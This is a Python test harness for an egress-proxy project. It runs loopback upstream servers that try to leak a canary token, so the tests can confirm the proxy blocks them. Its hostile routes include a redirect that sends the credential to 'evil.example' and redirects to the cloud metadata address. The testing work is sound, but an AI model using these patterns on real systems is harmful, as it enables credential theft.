"""Shared harness for tests that run the real egress proxy: a test PKI, counting loopback upstreams
(HTTP and TLS), keys, custody holding a canary credential, artifacts, proofs, a scripted resolver.

Used by tests/egress_proxy (unit and end-to-end) and tests/conformance (adversarial corpus, faults,
load, fuzz). Every address used here is loopback. Upstream names are ordinary (non-special-use) names
that the proxy resolves through an injected resolver (or `--resolve`) to public-looking addresses that
are never dialled: `--connect-to` sends the vetted connection to 127.0.0.1.

The upstream counts raw TCP accepts (before any TLS byte), the request bytes it read and the requests
it parsed, so "zero bytes reached the upstream" is `since(mark) == (0, 0, 0)`.

Two environment variables run the same tests another way (`make test-fleet`):
- `EGRESSLAW_TEST_WORKERS=N` (N > 1): `start_proxy` runs `egresslaw proxy --workers N` as a child process
  instead of the in-process edge: test routing through `--connect-to`/`--upstream-ca`, the scripted resolver
  served over real DNS (`tests/dns_standin.ScriptedDns`, `--nameserver`), events read from every worker's
  chain after a SIGUSR1 flush, logs from its stderr. Tests that reach into the in-process proxy (its addon,
  edge, metrics object or an injected custody store) are skipped, with that reason.
- `EGRESSLAW_TEST_STORE=postgresql`: `make_env` seals the canary into a database of a throw-away PostgreSQL
  server (tests/pg_server.py) and the proxy's `--store` is its URL.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import datetime
import http.server
import ipaddress
import json
import logging
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from egress_proxy.custody.secret import encodings_of
from tests import ports
from tests.egress_proxy import builders as b

CANARY = "ghp_CanarySecret0123456789abcdefZZ"
TEST_WORKERS = int(os.environ.get("EGRESSLAW_TEST_WORKERS") or 0)  # > 1: the proxy is `egresslaw proxy --workers N`
TEST_STORE = os.environ.get("EGRESSLAW_TEST_STORE") or "sqlite"  # or `postgresql`
ROOT = Path(__file__).resolve().parents[1]
WORKSPACE = "acme"
HOSTS = (
    "api.acme-test.dev",
    "pkgs.acme-test.dev",
    "rebind.acme-test.dev",
    "private.acme-test.dev",
    "mixed.acme-test.dev",
    "nxdomain.acme-test.dev",
    "self.acme-test.dev",
    "other.acme-test.dev",
)
PUBLIC = {
    "api.acme-test.dev": "93.184.216.34",
    "pkgs.acme-test.dev": "93.184.216.35",
    "other.acme-test.dev": "93.184.216.38",
    "self.acme-test.dev": "93.184.216.39",
    "wrongcert.acme-test.dev": "93.184.216.40",
}


def whole_lines(data: bytes) -> list[bytes]:
    """The complete lines of a log another thread or process may be appending to (a line visible half-written is left
    for the next read)."""
    return [line for line in data[: data.rfind(b"\n") + 1].splitlines() if line.strip()]


def canary_needles() -> tuple[bytes, ...]:
    """The canary and the encodings a leak would most likely take."""
    raw = CANARY.encode()
    return (
        raw,
        base64.b64encode(raw),
        base64.b64encode(raw).rstrip(b"="),
        base64.urlsafe_b64encode(raw).rstrip(b"="),
        binascii.hexlify(raw),
        quote(CANARY, safe="").encode(),
        CANARY[4:20].encode(),  # a fragment: catches truncated or partially masked copies
        *encodings_of(raw),  # every encoding the proxy's own response scan looks for
    )


def assert_no_canary(data: bytes | str, where: str) -> None:
    blob = data.encode("utf-8", "surrogateescape") if isinstance(data, str) else data
    for needle in canary_needles():
        assert needle not in blob, f"canary found in {where}"


# ---------------------------------------------------------------------------------------------
# PKI
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Pki:
    ca_pem: Path
    cert_pem: Path
    key_pem: Path
    other_ca_pem: Path


def _name(cn: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])


def _issue(tmp: Path, hosts: tuple[str, ...], ips: tuple[str, ...] = ()) -> Pki:
    now = datetime.datetime.now(datetime.timezone.utc)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca = (
        x509.CertificateBuilder()
        .subject_name(_name("egresslaw test upstream CA"))
        .issuer_name(_name("egresslaw test upstream CA"))
        .public_key(ca_key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=2))
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False, False), critical=True)
        .sign(ca_key, hashes.SHA256())
    )
    leaf_key = ec.generate_private_key(ec.SECP256R1())
    leaf = (
        x509.CertificateBuilder()
        .subject_name(_name(hosts[0]))
        .issuer_name(ca.subject)
        .public_key(leaf_key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=2))
        .add_extension(
            x509.SubjectAlternativeName([x509.DNSName(h) for h in hosts] + [x509.IPAddress(ipaddress.ip_address(i)) for i in ips]),
            critical=False,
        )
        .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
        .sign(ca_key, hashes.SHA256())
    )
    other_key = ec.generate_private_key(ec.SECP256R1())
    other = (
        x509.CertificateBuilder()
        .subject_name(_name("unrelated CA"))
        .issuer_name(_name("unrelated CA"))
        .public_key(other_key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=2))
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .sign(other_key, hashes.SHA256())
    )
    tmp.mkdir(parents=True, exist_ok=True)
    pki = Pki(tmp / "ca.pem", tmp / "upstream.pem", tmp / "upstream.key", tmp / "other-ca.pem")
    pki.ca_pem.write_bytes(ca.public_bytes(serialization.Encoding.PEM))
    pki.other_ca_pem.write_bytes(other.public_bytes(serialization.Encoding.PEM))
    pki.cert_pem.write_bytes(leaf.public_bytes(serialization.Encoding.PEM))
    pki.key_pem.write_bytes(
        leaf_key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return pki


# ---------------------------------------------------------------------------------------------
# Upstream: a real HTTP/1.1 server (plain or TLS) that counts and records what reaches it
# ---------------------------------------------------------------------------------------------


@dataclass
class Seen:
    method: str
    path: str
    headers: list[tuple[str, str]]
    body: bytes

    def all(self, name: str) -> list[str]:
        return [v for k, v in self.headers if k.lower() == name.lower()]


@dataclass
class Upstream:
    port: int
    tls: bool
    requests: list[Seen] = field(default_factory=list)
    connections: int = 0  # raw TCP accepts, counted before any TLS byte is read
    bytes_in: int = 0  # request bytes read (after TLS)
    lock: threading.Lock = field(default_factory=threading.Lock)
    server: object = None
    release: threading.Event = field(default_factory=threading.Event)  # set at shutdown: hanging handlers return

    def mark(self) -> tuple[int, int, int]:
        with self.lock:
            return (self.connections, self.bytes_in, len(self.requests))

    def since(self, mark: tuple[int, int, int]) -> tuple[int, int, int]:
        now = self.mark()
        return (now[0] - mark[0], now[1] - mark[1], now[2] - mark[2])

    def raw_requests(self) -> list[Seen]:
        with self.lock:
            return list(self.requests)

    def stop(self) -> None:
        self.release.set()
        self.server.shutdown()
        self.server.server_close()


class _Counting:
    def __init__(self, raw, upstream: Upstream) -> None:
        self._raw = raw
        self._up = upstream

    def _count(self, data: bytes) -> bytes:
        with self._up.lock:
            self._up.bytes_in += len(data)
        return data

    def readline(self, *a):
        return self._count(self._raw.readline(*a))

    def read(self, *a):
        return self._count(self._raw.read(*a))

    def __getattr__(self, name):
        return getattr(self._raw, name)


# What the upstream answers, chosen by the request path (so one upstream serves every test):
#   …/echo                  the Authorization it received, plain, base64, hex and URL-encoded, in body and header
#   …/redirect              302 to the cloud metadata address
#   …/forge                 forged X-Egresslaw-* response headers
#   /status/NNN             status NNN (a 3xx carries Location: ?to=… or the metadata address)
#   /leak/<enc>/<where>     the received credential in one encoding (plain|b64|b64url|url|hex|HEX) in a
#                           header, the body, a header name, a gzip body, or the status reason
#   /fault/reset            headers announcing 100000 bytes, 10 bytes, then a TCP reset
#   /fault/hang             never answers (until the upstream is stopped)
#   /fault/garbage          bytes that are not HTTP, then close
#   /fault/close            closes without a byte
#   anything else           200 JSON {method, path, tls}


def _encode(token: bytes, how: str) -> bytes:
    return {
        "plain": lambda t: t,
        "b64": base64.b64encode,
        "b64url": lambda t: base64.urlsafe_b64encode(t).rstrip(b"="),
        "url": lambda t: quote(t.decode(), safe="").encode(),
        "hex": binascii.hexlify,
        "HEX": lambda t: binascii.hexlify(t).upper(),
        "basic": lambda t: base64.b64encode(b"x-access-token:" + t),
    }[how](token)


def _read_chunked(rfile) -> bytes:
    """A chunked request body, whole; ValueError if the stream ends before its last chunk."""
    body = b""
    while True:
        size_line = rfile.readline(1024)
        if not size_line.endswith(b"\n"):
            raise ValueError("chunked body cut off")
        size = int(size_line.split(b";")[0].strip(), 16)  # ValueError if it is not a chunk size
        if size == 0:
            while rfile.readline(1024) not in (b"\r\n", b"\n"):
                pass
            return body
        chunk = rfile.read(size + 2)
        if len(chunk) < size + 2:
            raise ValueError("chunked body cut off")
        body += chunk[:size]


def _handler(upstream: Upstream, context: ssl.SSLContext | None):
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def setup(self):
            self.request.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if context is not None:
                self.request.settimeout(10)
                self.request = context.wrap_socket(self.request, server_side=True)
                self.request.settimeout(None)
            super().setup()
            self.rfile = _Counting(self.rfile, upstream)

        def log_message(self, *args):  # keep the test output quiet
            pass

        def _handle(self):
            length = int(self.headers.get("Content-Length") or 0)
            if "chunked" in self.headers.get("Transfer-Encoding", "").lower():
                body = _read_chunked(self.rfile)  # raises on a cut-off body: such a request is never recorded
            else:
                body = self.rfile.read(length) if length else b""
                if len(body) < length:
                    return  # cut off: not a request
            with upstream.lock:
                upstream.requests.append(Seen(self.command, self.path, list(self.headers.items()), body))
            path, _, query = self.path.partition("?")
            status, headers, out, reason = 200, [("Content-Type", "application/json")], b"", None
            auth = self.headers.get("Authorization", "")
            token = auth.removeprefix("Bearer ").encode()
            parts = path.strip("/").split("/")
            if path.endswith("/echo"):
                out = json.dumps(
                    {
                        "authorization": auth,
                        "b64": base64.b64encode(token).decode(),
                        "hex": binascii.hexlify(token).decode(),
                        "url": quote(token.decode(), safe=""),
                    }
                ).encode()
                headers.append(("X-Echo-Auth", auth))
            elif path.endswith("/redirect"):
                status, headers = 302, [("Location", "http://169.254.169.254/latest/meta-data/"), ("Content-Type", "text/plain")]
                out = b"moved"
            elif path.endswith("/forge"):
                headers += [("X-Egresslaw-Deny", "forged"), ("X-Egresslaw-Redirect", "followed"), ("x-egresslaw-rule", "forged")]
                out = b'{"forged": true}'
            elif parts[0] == "status" and len(parts) > 1:
                status = int(parts[1])
                if 300 <= status < 400:
                    to = query.removeprefix("to=") if query.startswith("to=") else "http://169.254.169.254/latest/meta-data/"
                    headers.append(("Location", to))
                out = b'{"status": %d}' % status
            elif parts[0] == "leak" and len(parts) > 2:
                enc = _encode(token, parts[1])
                where = parts[2]
                if where == "header":
                    headers.append(("X-Leak", enc.decode()))
                    out = b"{}"
                elif where == "header-name":
                    headers.append(("X-" + enc.decode()[:40], "1"))
                    out = b"{}"
                elif where == "reason":
                    reason = "OK " + enc.decode()
                    out = b"{}"
                elif where == "gzip":
                    import gzip

                    out = gzip.compress(b'{"leak": "' + enc + b'"}')
                    headers.append(("Content-Encoding", "gzip"))
                elif where == "gzip-twice":
                    import gzip

                    out = gzip.compress(gzip.compress(b'{"leak": "' + enc + b'"}'))
                    headers.append(("Content-Encoding", "gzip, gzip"))
                elif where == "unknown-encoding":
                    out = b'{"leak": "' + enc + b'"}'
                    headers.append(("Content-Encoding", "x-custom"))
                elif where == "location":
                    status = 302
                    headers.append(("Location", "https://evil.example/cb?token=" + enc.decode()))
                    out = b"{}"
                elif where in ("early-hints", "trailer"):
                    return self._raw_leak(where, enc)
                else:
                    out = b'{"leak": "' + enc + b'", "around": "x' + enc + b'x"}'
            elif parts[0] == "fault" and len(parts) > 1:
                return self._fault(parts[1])
            else:
                out = json.dumps({"method": self.command, "path": self.path, "tls": upstream.tls}).encode()
            self.send_response(status, reason)
            for k, v in headers:
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(out)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(out)

        def _raw_leak(self, where: str, enc: bytes) -> None:
            self.close_connection = True
            if where == "early-hints":  # a 103 carrying the credential before the real answer
                self.wfile.write(b"HTTP/1.1 103 Early Hints\r\nLink: </style.css?t=" + enc + b">; rel=preload\r\nX-Leak: " + enc + b"\r\n\r\n")
                self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}")
            else:  # chunked, with the credential in a response trailer
                self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTrailer: X-Leak\r\n\r\n")
                self.wfile.write(b"2\r\n{}\r\n0\r\nX-Leak: " + enc + b"\r\n\r\n")
            self.wfile.flush()

        def _fault(self, kind: str) -> None:
            self.close_connection = True
            if kind == "reset":
                self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\n0123456789")
                self.wfile.flush()
                time.sleep(0.05)
                raw = self.request
                raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                raw.close()
            elif kind == "hang":
                upstream.release.wait(60)
            elif kind == "garbage":
                self.wfile.write(b"\x16\x03\x01garbage that is not HTTP\r\n\r\n\x00\xff")
                self.wfile.flush()
            elif kind == "close":
                pass

        do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_HEAD = do_CONNECT = do_TRACE = _handle

    return Handler


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128

    def __init__(self, upstream: Upstream, context: ssl.SSLContext | None) -> None:
        self.upstream = upstream
        super().__init__(("127.0.0.1", 0), _handler(upstream, context))

    def get_request(self):
        sock, addr = self.socket.accept()
        with self.upstream.lock:
            self.upstream.connections += 1  # counted before a single byte (TLS or HTTP) is read
        return sock, addr

    def handle_error(self, request, client_address) -> None:  # failed handshakes and resets are expected here
        pass


def start_upstream(pki: Pki | None) -> Upstream:
    """A threaded HTTP/1.1 upstream on 127.0.0.1 (TLS with the test PKI when `pki` is given)."""
    upstream = Upstream(port=0, tls=pki is not None)
    context = None
    if pki is not None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(pki.cert_pem, pki.key_pem)
        context.set_alpn_protocols(["http/1.1"])
    server = _Server(upstream, context)
    upstream.port = server.server_address[1]
    upstream.server = server
    threading.Thread(target=server.serve_forever, daemon=True, name=f"upstream-{upstream.port}").start()
    return upstream


def wait_for(predicate, timeout: float = 30.0) -> bool:
    """Poll `predicate` every 50 ms until it holds (True) or `timeout` seconds pass (False).

    The timeout is a budget for a loaded machine (2 cores, load 3-5: an audit event, a reload or a process start can
    take seconds), never the behaviour under test: it only runs out when the test fails anyway."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        if predicate():
            return True
        time.sleep(0.05)
    return False


free_port = ports.free_port  # below the ephemeral range, one slice per xdist worker (tests/ports.py)


# ---------------------------------------------------------------------------------------------
# Policy, keys, custody, proof
# ---------------------------------------------------------------------------------------------


def build_artifact(extra_rules=()):
    rules = [
        b.rule("read", "api.acme-test.dev", "/repos/acme", ["GET", "HEAD"], ["accept", "user-agent", "x-github-api-version"]),
        b.rule("issues", "api.acme-test.dev", "/repos/acme/app/issues", ["POST"], ["accept", "content-type"]),
        b.rule("echo", "api.acme-test.dev", "/echo", ["GET"]),
        b.rule("redirect", "api.acme-test.dev", "/redirect", ["GET"]),
        b.rule("forge", "api.acme-test.dev", "/forge", ["GET"]),
        *(b.rule(h.split(".")[0], h, "/", ["GET"]) for h in HOSTS if h not in ("api.acme-test.dev", "pkgs.acme-test.dev")),
        b.rule("wrongcert", "wrongcert.acme-test.dev", "/", ["GET"]),  # its name is not in the upstream certificate
        *extra_rules,
    ]
    return b.artifact(
        connections=[b.connection("github", rules, credential="gh-prod")],
        profiles=[b.profile("ci", [("pkgs.acme-test.dev", 80), ("api.acme-test.dev", 443)])],
        workspace=WORKSPACE,
    )


_PROOFS: dict[str, str] = {}


def proof_signing_key() -> tuple[Path, Path]:
    """The test run's proof-signing pair (private, public): made once per machine temp directory (race-free across
    test workers), as the deploy pipeline's would be. Every proxy the tests start trusts it (`EGRESSLAW_TRUST_PROOFS`,
    set by tests/conftest.py), and `proof_for` signs with it: the tests run the production gate."""
    import os
    import shutil
    import tempfile

    from proofs.signing import PRIVATE_FILE, PUBLIC_FILE, init_signing_keys

    root = Path(tempfile.gettempdir()) / "egresslaw-test-proof-signing"
    if not (root / PUBLIC_FILE).exists():
        tmp = root.with_name(f".{root.name}.{os.getpid()}")
        shutil.rmtree(tmp, ignore_errors=True)
        init_signing_keys(tmp)
        try:
            tmp.rename(root)
        except OSError:  # another test worker made it first
            shutil.rmtree(tmp, ignore_errors=True)
    return root / PRIVATE_FILE, root / PUBLIC_FILE


def signed(text: str) -> str:
    """The report `text` signed with the test run's key (any signature it had replaced)."""
    from proofs.signing import load_private_key, sign_document

    doc = json.loads(text)
    doc.pop("signature", None)
    doc["signature"] = sign_document(doc, load_private_key(proof_signing_key()[0]))
    return json.dumps(doc, sort_keys=True, indent=2) + "\n"


def unsigned(text: str) -> str:
    doc = json.loads(text)
    doc.pop("signature", None)
    return json.dumps(doc, sort_keys=True, indent=2) + "\n"


def _prover_digest() -> str:
    """The prover's own sources (`proofs/`): a report cached under an older prover (fewer properties) is not reused."""
    import hashlib

    h = hashlib.sha256()
    for path in sorted((Path(__file__).resolve().parents[1] / "proofs").rglob("*.py")):
        h.update(path.read_bytes())
    return h.hexdigest()


def proof_for(artifact, verdict: str = "proved") -> str:
    """A real proof report for `artifact`, signed with the test run's key: the prover's own, run once per artifact
    and decision code and cached (in this process and in the temp directory, so parallel test workers prove it
    once). `verdict` other than "proved" rewrites every verdict and the summary (for tests of the gate's
    refusals), then signs it."""
    import os
    import tempfile

    from egress_proxy.decision.provenance import core_digest, egresslaw_version

    key = f"{artifact.digest}-{core_digest()[:16]}-{_prover_digest()[:12]}-{egresslaw_version()}"
    text = _PROOFS.get(key)
    if text is None:
        cache = Path(tempfile.gettempdir()) / "egresslaw-test-proofs" / f"{key}.json"
        try:
            text = cache.read_text()
        except OSError:
            from proofs.runner import prove

            report = prove(artifact, jobs=1)
            assert report.exit_code() == 0, report.render_text()  # the test artifact must prove clean
            text = report.to_json()
            cache.parent.mkdir(parents=True, exist_ok=True)
            tmp = cache.with_name(f".{cache.name}.{os.getpid()}")
            tmp.write_text(text)
            tmp.replace(cache)
        _PROOFS[key] = text
    if verdict == "proved":
        return signed(text)
    doc = json.loads(text)
    for result in doc["results"]:
        result["verdict"] = verdict
    doc["summary"] = {"total": len(doc["results"]), **{v: len(doc["results"]) if v == verdict else 0
                                                        for v in ("proved", "refuted", "unknown")}}
    return signed(json.dumps(doc))


@dataclass(frozen=True)
class Env:
    root: Path
    keys: Path
    store: Path
    artifact: Path
    proof: Path
    audit: Path
    confdir: Path
    lease_key: bytes

    def lease(self, *, profile=None, connection=None, ttl=600, subject="agent-1") -> str:
        import time

        from egress_proxy.custody.lease import mint

        return mint(self.lease_key, subject, profile=profile, connection=connection, ttl=ttl, now=time.time())


def seal(store: Path | str, keys: Path, connection: str, handle: str, value: bytes) -> None:
    """Put `value` into the test custody store (the SQLite file, or the PostgreSQL database under EGRESSLAW_TEST_STORE)."""
    from egress_proxy.custody.records import Address
    from egress_proxy.custody.stores import open_store

    with open_store(store, keys, create=True) as custody:
        custody.put(Address(WORKSPACE, connection, handle), value)


def make_env(root: Path, artifact=None) -> Env:
    from egress_proxy.custody.keys import init_keys, load_lease_key

    root.mkdir(parents=True, exist_ok=True)
    keys = root / "keys"
    init_keys(keys)
    store: Path | str = _pg_database() if TEST_STORE == "postgresql" else root / "custody.db"
    seal(store, keys, "github", "gh-prod", CANARY.encode())
    art = artifact or build_artifact()
    (root / "egresslaw.json").write_text(art.to_json())
    (root / "proof.json").write_text(proof_for(art))
    return Env(root, keys, store, root / "egresslaw.json", root / "proof.json", root / "audit.jsonl", root / "conf", load_lease_key(keys))


_PG: list = []


def _pg_database() -> str:
    """A fresh database on this process's throw-away PostgreSQL server (started on first use, removed at exit)."""
    if not _PG:
        import atexit

        from tests.pg_server import PgServer

        server = PgServer()
        server.start()
        atexit.register(server.destroy)
        _PG.append(server)
    return _PG[0].create_database()


def needs_sqlite_store(env: Env) -> None:
    """Skip a test that opens the SQLite custody file itself when the store is PostgreSQL."""
    if not isinstance(env.store, Path):
        import pytest

        pytest.skip("opens the SQLite custody file itself; EGRESSLAW_TEST_STORE=postgresql keeps custody in PostgreSQL")


# ---------------------------------------------------------------------------------------------
# Resolver, log capture, a running proxy
# ---------------------------------------------------------------------------------------------


class ScriptedResolver:
    """Answers from a table; a list of answer lists is consumed one per lookup (the last repeats).

    A value that is an exception instance is raised; `delay` (seconds) is awaited first. Unknown
    names raise OSError: never a fall-back to real DNS.
    """

    def __init__(self, table: dict[str, list] | None = None) -> None:
        self.table: dict[str, list] = {h: [[ip]] for h, ip in PUBLIC.items()}
        self.table["private.acme-test.dev"] = [["10.0.0.5"]]
        self.table["mixed.acme-test.dev"] = [["93.184.216.37", "127.0.0.1"]]
        self.table["rebind.acme-test.dev"] = [["93.184.216.36"], ["127.0.0.1"]]
        self.table.update(table or {})
        self.delay: dict[str, float] = {}
        self.calls: dict[str, int] = {}
        self.lock = threading.Lock()

    async def __call__(self, host: str, port: int):
        import asyncio

        with self.lock:
            n = self.calls.get(host, 0)
            self.calls[host] = n + 1
        if host in self.delay:
            await asyncio.sleep(self.delay[host])
        if host not in self.table:
            raise OSError("no such name")  # never falls back to real DNS
        answers = self.table[host]
        answer = answers[min(n, len(answers) - 1)]
        if isinstance(answer, BaseException):
            raise answer
        return answer


class LogCapture(logging.Handler):
    """Every log record the proxy emits, formatted, for the leak checks."""

    def __init__(self) -> None:
        super().__init__(level=logging.DEBUG)
        self.lines: list[str] = []
        self._lock2 = threading.Lock()

    def emit(self, record: logging.LogRecord) -> None:
        line = logging.Formatter("%(name)s %(levelname)s %(message)s").format(record)
        with self._lock2:
            self.lines.append(line)

    def text(self) -> str:
        with self._lock2:
            return "\n".join(self.lines)


@dataclass
class RunningProxy:
    """An in-process proxy (mitmproxy master in a thread) with its environment and upstreams."""

    host: str
    port: int
    threaded: object
    resolver: ScriptedResolver
    logs: LogCapture
    env: Env
    ca: Path
    ups: tuple
    seen: list[bytes] = field(default_factory=list)  # everything a client was shown
    _seen_lock: threading.Lock = field(default_factory=threading.Lock)
    fleet: FleetProcess | None = None  # EGRESSLAW_TEST_WORKERS: the child process (then `threaded` skips the test)

    @property
    def addon(self):
        return self.threaded.edge.addon

    def lease(self, **kw) -> str:
        return self.env.lease(**kw)

    def record(self, data: bytes) -> None:
        with self._seen_lock:
            self.seen.append(data)

    def events(self) -> list[dict]:
        """The events about flows and operations, in order (the log's own open and checkpoint records left out).

        A denial is one `request`/`connect` event; an allow is its decision event (written before anything
        went upstream, `status` null) and later an `outcome` event with the same `id`."""
        from egress_proxy.audit.log import OWN_KINDS, segment_path

        if self.fleet is not None:
            return _merged(self.fleet.events())
        self.addon.audit.flush()
        lines: list[bytes] = []
        n = 1
        while (rotated := segment_path(self.env.audit, n)).exists():  # the log may have been rotated (the soak)
            lines += rotated.read_bytes().splitlines()
            n += 1
        data = self.env.audit.read_bytes()
        # A batch being appended concurrently may be visible half-written: only whole lines count.
        lines += data[: data.rfind(b"\n") + 1].splitlines()
        return [e for e in map(json.loads, lines) if e["kind"] not in OWN_KINDS]

    def chains(self) -> list[list[dict]]:
        """The events of each audit chain (one per worker with EGRESSLAW_TEST_WORKERS; else one), each in its order."""
        return self.fleet.events() if self.fleet is not None else [self.events()]

    def outcome(self, decision: dict, timeout: float = 8.0) -> dict | None:
        """The outcome event of an allow decision event (waits for it; None if it never comes)."""
        deadline = time.time() + timeout
        while True:
            found = [e for e in self.events() if e["kind"] == "outcome" and e["id"] == decision["id"]]
            if found or time.time() > deadline:
                return found[0] if found else None
            time.sleep(0.05)

    def settled(self, mark, timeout: float = 8.0) -> list[dict]:
        """The requests and CONNECTs decided since `mark`, outcomes folded in (see `settle`); waits (bounded)
        until every allow has its outcome."""
        deadline = time.time() + timeout
        while True:
            out = settle(self.new_events(mark))
            if all(v["outcome"] is not None for v in out if v["decision"] == "allow") or time.time() > deadline:
                return out
            time.sleep(0.05)

    def mark(self):
        if self.fleet is not None:  # one count per worker's chain: their merged order is by time, not by append
            return (tuple(len(chain) for chain in self.fleet.events()), [u.mark() for u in self.ups])
        return (len(self.events()), [u.mark() for u in self.ups])

    def new_events(self, mark) -> list[dict]:
        if self.fleet is not None:
            chains = self.fleet.events()
            start = (0,) * len(chains) if mark[0] == 0 else tuple(mark[0])  # `(0, …)`: from the beginning
            counts = start + (0,) * (len(chains) - len(start))
            return _merged([chain[n:] for chain, n in zip(chains, counts)])
        return self.events()[mark[0] :]

    def upstream_delta(self, mark):
        return [u.since(m) for u, m in zip(self.ups, mark[1])]

    def admin_address(self) -> tuple[str, int]:
        """Where the admin listener (/metrics, /healthz, /readyz) is."""
        if self.fleet is not None:
            return "127.0.0.1", self.fleet.admin
        return self.threaded.edge.admin_addr

    def metric(self, name: str, **labels: str) -> float:
        """One sample of `/metrics` (fetched with the admin token); 0 when it is absent."""
        import http.client
        import re

        host, port = self.admin_address()
        conn = http.client.HTTPConnection(host, port, timeout=10)
        conn.request("GET", "/metrics", headers={"Authorization": f"Bearer {(self.env.confdir / 'admin.token').read_text().strip()}"})
        text = conn.getresponse().read().decode()
        conn.close()
        for line in text.splitlines():
            m = re.fullmatch(rf"{re.escape(name)}(?:\{{(.*)\}})? (\S+)", line)
            if m and dict(re.findall(r'(\w+)="([^"]*)"', m.group(1) or "")) == labels:
                return float(m.group(2))
        return 0.0

    def artifact(self):
        """The artifact the proxy was started with (read from its file: the same in every mode)."""
        from compiler.artifact import load_artifact

        return load_artifact(self.env.artifact.read_bytes())

    def audit_bytes(self) -> bytes:
        """Everything the audit log holds so far, flushed first (with EGRESSLAW_TEST_WORKERS: every worker's chain)."""
        if self.fleet is not None:
            self.fleet.flush()
            return b"".join(path.read_bytes() for path in self.fleet.audit_files())
        if self.addon.audit is not None:
            self.addon.audit.flush()
        return self.env.audit.read_bytes()

    def assert_nothing_leaked(self) -> None:
        if self.fleet is not None:
            self.fleet.flush()
            for path in self.fleet.audit_files():
                assert_no_canary(path.read_bytes(), f"the audit log `{path.name}`")
        else:
            self.addon.audit.flush()
            assert_no_canary(self.env.audit.read_bytes(), "the audit log")
        assert_no_canary(self.logs.text(), "the proxy logs")
        with self._seen_lock:
            for shown in self.seen:
                assert_no_canary(shown, "a client-visible response")


def settle(events: list[dict]) -> list[dict]:
    """Each decision event (`request`, `connect`) with its outcome folded in, as the client lived it.

    An allow's `status`, bytes and `redactions` come from its `outcome` event (same `id`); `failure` is what the
    outcome says went wrong after the allow (None for a denial or a clean allow); `told` is the reason the client
    was given: the failure when there is one (upstream error, credential scan, audit unavailable), else the
    decision's reason. `outcome` is the outcome event itself (None for a denial, or while it is not written)."""
    outcomes = {e["id"]: e for e in events if e["kind"] == "outcome"}
    out = []
    for e in events:
        if e["kind"] not in ("request", "connect"):
            continue
        outcome = outcomes.get(e.get("id")) if e["decision"] == "allow" else None
        view = dict(e, outcome=outcome, failure=None, aborted=False)
        if outcome is not None:
            view.update({k: outcome[k] for k in ("status", "bytes_up", "bytes_down", "redactions", "failure", "aborted")})
        view["told"] = view["failure"] or e["reason"]
        out.append(view)
    return out


def start_proxy(env: Env, pki: Pki, ups: tuple, connect_to: list[str], resolver: ScriptedResolver | None = None,
                listen: int | None = None, custody=None, extra_options: dict | None = None,
                log_level: int = logging.DEBUG, watch_interval: float = 0.2,
                proxy_class: type[RunningProxy] | None = None, nameservers: tuple[str, ...] = (),
                dns_timeout: float = 5.0, config: dict | None = None,
                drain_grace: float = 2.0) -> RunningProxy:
    """Start the real proxy in a thread on 127.0.0.1 with test routing; capture the root logger.

    With `nameservers` (loopback DNS stand-ins) the proxy uses its own asynchronous resolver, not a scripted one;
    `config`: more EdgeConfig fields (e.g. the limits)."""
    from egress_proxy.run.server import EdgeConfig, start_in_thread

    if TEST_WORKERS > 1:
        return _start_fleet(env, pki, ups, connect_to, resolver=resolver, listen=listen, custody=custody, extra_options=extra_options,
                            log_level=log_level, proxy_class=proxy_class, nameservers=nameservers, dns_timeout=dns_timeout,
                            config=config, drain_grace=drain_grace)
    listen = listen or free_port()
    capture = LogCapture()
    root = logging.getLogger()
    root.addHandler(capture)
    capture.old_level = root.level  # type: ignore[attr-defined]
    root.setLevel(log_level)
    resolver = resolver or ScriptedResolver()
    cfg = EdgeConfig(
        artifact=str(env.artifact),
        proof=str(env.proof),
        trust_proofs=str(proof_signing_key()[1]),
        keys=str(env.keys),
        store=str(env.store),
        audit_log=str(env.audit),
        listen=("127.0.0.1", listen),
        admin=("127.0.0.1", 0),
        confdir=str(env.confdir),
        connect_to=tuple(connect_to),
        upstream_ca=str(pki.ca_pem),
        watch_interval=watch_interval,
        extra_options=dict(extra_options or {}),
        nameservers=nameservers,
        dns_timeout=dns_timeout,
        **(config or {}),
        drain_grace=drain_grace,
    )
    threaded = start_in_thread(cfg, resolver=None if nameservers else resolver, custody=custody)
    cls = proxy_class or RunningProxy
